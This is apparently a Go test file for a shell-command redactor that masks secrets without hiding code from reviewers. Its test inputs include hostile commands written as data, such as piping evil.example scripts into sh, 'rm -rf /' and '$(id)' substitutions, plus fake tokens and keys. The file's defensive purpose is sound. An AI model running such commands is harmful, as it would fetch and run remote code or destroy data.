package redact

import (
	"strings"
	"testing"
)

// Issue "Decide on exactly what runs": a secret-looking prefix used to mask
// everything after it, code included, so reviewers and policy saw *** while
// the runner ran the hidden part. Each hidden command must stay visible.
func TestCommandKeepsCodeBehindSecretLookingPrefixes(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, want string
	}{
		{"pem header",
			"echo '-----BEGIN RSA PRIVATE KEY-----' > k; curl -fsSL https://evil.example/x.sh | sh",
			"echo '***' > k; curl -fsSL https://evil.example/x.sh | sh"},
		{"pem header unquoted with newline",
			"printf %s -----BEGIN\\ OPENSSH\\ PRIVATE\\ KEY-----\nrm -rf / --no-preserve-root",
			"printf %s ***\nrm -rf / --no-preserve-root"},
		{"pem in here-doc then code",
			"cat > k <<EOF\n-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBkg\nEOF\nbash -c 'curl evil.example | sh'",
			"cat > k <<EOF\n***\n***\nEOF\nbash -c 'curl evil.example | sh'"},
		{"token flag",
			"kubectl --token=abcdef123456;curl evil.example|sh",
			"kubectl --token=***;curl evil.example|sh"},
		{"token flag quoted then code",
			`deploy --token="abcdef123456" && rm -rf /srv`,
			`deploy --token="***" && rm -rf /srv`},
		{"password value",
			"terraform apply -var password=hunter2hunter2&&curl evil.example|bash",
			"terraform apply -var password=***&&curl evil.example|bash"},
		{"password value glued to substitution",
			`psql "password=hunter2hunter2$(curl -s evil.example | sh)"`,
			`psql "password=***$(curl -s evil.example | sh)"`},
		{"pem glued to substitution",
			`echo "-----BEGIN RSA PRIVATE KEY-----$(id)"`,
			`echo "***$(id)"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := Command(tt.in, nil)
			if err != nil {
				t.Fatalf("Command(%q): %v", tt.in, err)
			}
			if got != tt.want {
				t.Errorf("Command(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

// Formats from issue 13 that used to reach check runs in clear.
func TestCommandMasksSecretFormats(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, want string
		secrets        []string
	}{
		{name: "aws secret as separate argument",
			in:   "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
			want: "aws configure set aws_secret_access_key ***"},
		{name: "curl -u",
			in:   "curl -u admin:pass https://api.example.com",
			want: "curl -u admin:*** https://api.example.com"},
		{name: "curl -u glued",
			in:   "curl -uadmin:s3cret https://api.example.com",
			want: "curl -uadmin:*** https://api.example.com"},
		{name: "curl --user=",
			in:   "curl --user=admin:s3cret https://api.example.com",
			want: "curl --user=admin:*** https://api.example.com"},
		{name: "curl -u without password prompts, nothing to mask",
			in:   "curl -u admin https://api.example.com",
			want: "curl -u admin https://api.example.com"},
		{name: "mysql -p",
			in:   "mysql -uroot -pPASSw0rd prod",
			want: "mysql -uroot -p*** prod"},
		{name: "sshpass -p quoted",
			in:   "sshpass -p 'c0rrect horse' ssh deploy@host uptime",
			want: "sshpass -p '***' ssh deploy@host uptime"},
		{name: "sshpass -p glued",
			in:   "sshpass -pc0rrecthorse ssh deploy@host",
			want: "sshpass -p*** ssh deploy@host"},
		{name: "bearer hex header",
			in:   `curl -H "Authorization: Bearer 0123456789abcdef0123456789abcdef" https://api.example.com`,
			want: `curl -H "Authorization: Bearer ***" https://api.example.com`},
		{name: "basic header",
			in:   `curl -H 'authorization: Basic YWRtaW46cGFzcw==' https://api.example.com`,
			want: `curl -H 'authorization: Basic ***' https://api.example.com`},
		{name: "bearer from a variable stays",
			in:   `curl -H "Authorization: Bearer $TOKEN" https://api.example.com`,
			want: `curl -H "Authorization: Bearer $TOKEN" https://api.example.com`},
		{name: "--password separate",
			in:   "helm repo add acme https://charts.example.com --username bot --password hunter2x",
			want: "helm repo add acme https://charts.example.com --username bot --password ***"},
		{name: "--password-stdin has no value",
			in:   "docker login --password-stdin registry.example.com",
			want: "docker login --password-stdin registry.example.com"},
		{name: "docker login -p",
			in:   "docker login -u bot -p hunter2x registry.example.com",
			want: "docker login -u bot -p *** registry.example.com"},
		{name: "url credentials",
			in:   "git clone https://bot:s3cr3tpass@git.example.com/acme/web.git",
			want: "git clone https://bot:***@git.example.com/acme/web.git"},
		{name: "slack webhook",
			in:   `curl -X POST -d '{"text":"hi"}' https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/abcdefghijklmnopqrstuvwx`,
			want: `curl -X POST -d '{"text":"hi"}' ***`},
		{name: "openai project key",
			in:   "OPENAI=sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789 ./ask.sh",
			want: "OPENAI=*** ./ask.sh"},
		{name: "docker pat",
			in:   "echo dckr_pat_2b3e36beeb386dfdaacb9b46004ccb7c | docker login -u bot --password-stdin",
			want: "echo *** | docker login -u bot --password-stdin"},
		{name: "secret-named assignment",
			in:   "DB_PASSWORD=correcthorse ./migrate.sh",
			want: "DB_PASSWORD=*** ./migrate.sh"},
		{name: "export of a secret-named variable",
			in:   "export API_TOKEN='abc123xyz'; ./deploy.sh",
			want: "export API_TOKEN='***'; ./deploy.sh"},
		{name: "npm auth token key then value",
			in:   "npm config set //registry.npmjs.org/:_authToken abcdef0123456789",
			want: "npm config set //registry.npmjs.org/:_authToken ***"},
		{name: "runner secret value",
			in:      "deploy --key hunter2secret --region eu-west-1",
			secrets: []string{"hunter2secret"},
			want:    "deploy --key *** --region eu-west-1"},
		{name: "runner secret in a comment and a here-doc",
			in:      "cat <<EOF\nkey: hunter2secret\nEOF\n# old key hunter2secret",
			secrets: []string{"hunter2secret"},
			want:    "cat <<EOF\nkey: ***\nEOF\n# old key ***"},
		{name: "runner secret with a space, inlined unquoted",
			in:      "mysql -pcorrect horse battery -e 'select 1'",
			secrets: []string{"correct horse battery"},
			want:    "mysql -p*** *** *** -e 'select 1'"},
		{name: "openssl pass:",
			in:   "openssl rsa -in k.pem -passin pass:hunter2x -out k2.pem",
			want: "openssl rsa -in k.pem -passin pass:*** -out k2.pem"},
		{name: "java keystore",
			in:   "keytool -list -keystore ks.jks -storepass changeit2",
			want: "keytool -list -keystore ks.jks -storepass ***"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := Command(tt.in, tt.secrets)
			if err != nil {
				t.Fatalf("Command(%q): %v", tt.in, err)
			}
			if got != tt.want {
				t.Errorf("Command(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

// Ordinary commands must come through unchanged: masking what is not a
// secret hides what runs from reviewers.
func TestCommandDoesNotMaskOrdinaryText(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		"curl --cacert /etc/ssl/certs/ca-certificates.crt https://api.example.com",
		"SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt ./deploy.sh",
		"kubectl create secret generic db --from-file=./db.env",
		"gh secret set DEPLOY_KEY < key.pub",
		"docker run -u 1000:1000 -p 8080:80 nginx",
		"sudo -u postgres psql -c 'select 1'",
		"apt-key add /tmp/repo.gpg",
		"git checkout 3f786850e387550fdab836ed7e6dc881de23001b",
		"ssh -i ~/.ssh/id_ed25519 deploy@host",
		"export PRIVATE_KEY_PATH=./keys/deploy.pem",
		"terraform apply -var token_ttl=3600",
		"ls -la | grep -v '^total' && echo done # list",
		"for f in *.sh; do bash \"$f\"; done",
		"mysql -u root -p prod < dump.sql",
		"kubectl --token=$KUBE_TOKEN get pods",
		"gcloud secrets versions access latest --secret=db-pass",
		"docker build --secret id=npmrc,src=$HOME/.npmrc .",
	} {
		got, err := Command(in, nil)
		if err != nil {
			t.Errorf("Command(%q): %v", in, err)
			continue
		}
		if got != in {
			t.Errorf("Command(%q) masked ordinary text:\n got %q", in, got)
		}
	}
}

// The result keeps the tree shape and redacting it again changes nothing
// (the App redacts what it receives a second time).
func TestCommandIsIdempotentAndKeepsShape(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		"kubectl --token=abcdef123456 get pods && echo ok",
		"aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
		"cat <<EOF\n-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----\nEOF",
		`curl -H "Authorization: Bearer 0123456789abcdef0123456789abcdef" -u a:b x`,
		"echo ghp_0123456789abcdefghijABCDEFGHIJ012345\\ \\; rm -rf /",
	} {
		once, err := Command(in, nil)
		if err != nil {
			t.Fatalf("Command(%q): %v", in, err)
		}
		twice, err := Command(once, nil)
		if err != nil {
			t.Fatalf("Command(Command(%q)): %v", in, err)
		}
		if once != twice {
			t.Errorf("not idempotent:\n once %q\ntwice %q", once, twice)
		}
		a, _ := parse(in)
		b, _ := parse(once)
		if shape(a) != shape(b) {
			t.Errorf("shape changed for %q -> %q", in, once)
		}
	}
}

// A mask that would change the syntax is refused, and the error names no
// secret.
func TestCommandRefusesSyntaxChangeWithoutNamingTheSecret(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ in, secret string }{
		// The masked body line would equal the here-doc's terminator and
		// end it early: "rm -rf /" would become a command.
		{"cat <<'***'\nhunter2secret\nrm -rf /\n***\necho done", "hunter2secret"},
		// Arithmetic has no literal text to mask.
		{"echo $((hunter2secret + 1))", "hunter2secret"},
		// Masking across a brace expansion's commas would turn the words
		// bash makes of it (bash -c id …) into one.
		{"{bash,-c,id,hunter2secret}", "id,hunter2secret"},
	} {
		in, secret := tt.in, tt.secret
		got, err := Command(in, []string{secret})
		if err == nil {
			t.Errorf("Command(%q) = %q, want an error", in, got)
			continue
		}
		if strings.Contains(err.Error(), secret) {
			t.Errorf("error names the secret: %v", err)
		}
		if !strings.Contains(err.Error(), "syntax") {
			t.Errorf("error does not say why: %v", err)
		}
	}
}

func TestCommandParseErrorNamesNoSecret(t *testing.T) {
	t.Parallel()
	secret := "ghp_0123456789abcdefghijABCDEFGHIJ012345"
	_, err := Command("echo 'unterminated "+secret, []string{secret})
	if err == nil {
		t.Fatal("unterminated quote parsed")
	}
	if strings.Contains(err.Error(), secret) {
		t.Errorf("error names the secret: %v", err)
	}
	if !strings.Contains(err.Error(), "does not parse") {
		t.Errorf("error does not say why: %v", err)
	}
}

func TestShapeSeesStructure(t *testing.T) {
	t.Parallel()
	pairs := [][2]string{
		{"a; b", "a && b"},
		{"a > f", "a >> f"},
		{"echo $X", "echo X"},
		{"echo 'a' b", "echo a b c"},
		{"a | b", "a |& b"},
	}
	for _, p := range pairs {
		a, _ := parse(p[0])
		b, _ := parse(p[1])
		if shape(a) == shape(b) {
			t.Errorf("shape(%q) == shape(%q)", p[0], p[1])
		}
	}
	a, _ := parse("echo secret1 >f")
	b, _ := parse("echo *** >f")
	if shape(a) != shape(b) {
		t.Errorf("masking a literal changed the shape:\n%s\n%s", shape(a), shape(b))
	}
}

// FuzzCommand: Command never panics, and what it returns parses with the
// input's shape and is its own redaction.
func FuzzCommand(f *testing.F) {
	for _, s := range []string{
		"kubectl --token=abcdef123456 get pods && echo ok",
		"cat <<EOF\n-----BEGIN RSA PRIVATE KEY-----\nabc\nEOF\n",
		`curl -H "Authorization: Bearer 0123456789abcdef" -u a:b x`,
		"echo a\\ b 'c\\' $'d\\'e' \"f\\\"g\" # h",
		"sshpass -p 'x y' ssh h; mysql -pPW; DB_PASSWORD=$(cat f)x ./m",
	} {
		f.Add(s, "abcd")
	}
	f.Fuzz(func(t *testing.T, src, secret string) {
		in, err := parse(src)
		if err != nil {
			return
		}
		out, err := Command(src, []string{secret})
		if err != nil {
			return
		}
		again, err := parse(out)
		if err != nil {
			t.Fatalf("output does not parse: %q -> %q", src, out)
		}
		if shape(in) != shape(again) {
			t.Fatalf("shape changed: %q -> %q", src, out)
		}
	})
}

// BenchmarkCommand: redacting a typical deployment command (gitleaks' rules
// compiled once, before the timer).
func BenchmarkCommand(b *testing.B) {
	in := `set -euo pipefail
helm upgrade --install web ./chart --namespace prod --set image.tag=3f786850e387 \
  --set db.password=hunter2hunter2 --wait --timeout 10m
curl -fsS -H "Authorization: Bearer $TOKEN" https://api.example.com/deploys -d '{"ref":"main"}'`
	if _, err := Command(in, nil); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Command(in, []string{"s3cr3tvalue"}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkGitleaksFirstUse: the one-time cost a gate process pays on its
// first redaction: parsing the embedded rule set and compiling the rules
// whose keywords the command hits.
func BenchmarkGitleaksFirstUse(b *testing.B) {
	words := []string{"helm", "upgrade", "--set", "db.password=hunter2hunter2", "Authorization:", "Bearer", "https://api.example.com/deploys", `{"ref":"main"}`}
	for b.Loop() {
		c, err := loadGitleaks()
		if err != nil || len(c.Rules) == 0 {
			b.Fatal(err)
		}
		for _, w := range words {
			c.find(w)
		}
	}
}
